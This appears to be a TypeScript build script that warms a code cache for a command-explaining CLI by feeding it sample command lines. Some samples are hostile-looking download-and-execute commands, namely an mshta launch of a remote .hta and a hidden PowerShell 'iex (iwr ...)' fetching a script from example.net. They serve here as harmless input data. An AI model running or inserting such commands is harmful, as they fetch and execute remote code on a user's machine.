import { join } from "node:path";
import { codeFile, compile, runCompiled } from "../src/cli/explain/compiled.ts";
import { DIST, writeWhole } from "./dist.ts";

/** Functions are compiled when they are first called, so what is kept is taken after lines of each kind. */
const LINES = [
  'rundll32.exe "C:\\Program Files\\a b\\c.dll",Open 1',
  "cmd.exe /c start /b mshta http://example.net/a.hta & set X=1",
  "powershell -nop -w hidden -c \"iex (iwr 'http://example.net/a.ps1')\"",
  "find . -name '*.log' -exec sh -c 'wc -l > /tmp/x' ;",
];

/** dist/explain.cjs.*.code: what this Node compiled of the program, in a process of its own because the program writes and exits. */
const program = join(DIST, "explain.cjs");
const script = compile(program);
for (const line of LINES)
  for (const format of ["text", "json"]) {
    process.argv = [process.argv[0]!, program, "explain", "--format", format, line];
    await runCompiled(script, program).done;
  }
writeWhole(codeFile(program), script.createCachedData());
